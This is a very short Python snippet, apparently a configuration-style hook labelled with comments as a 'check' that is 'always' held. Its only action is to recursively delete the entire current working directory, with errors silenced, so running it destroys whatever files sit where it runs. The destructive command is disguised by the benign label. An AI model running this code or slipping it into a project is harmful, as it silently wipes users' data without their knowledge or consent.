# held by: always
# as: check
import os, shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)
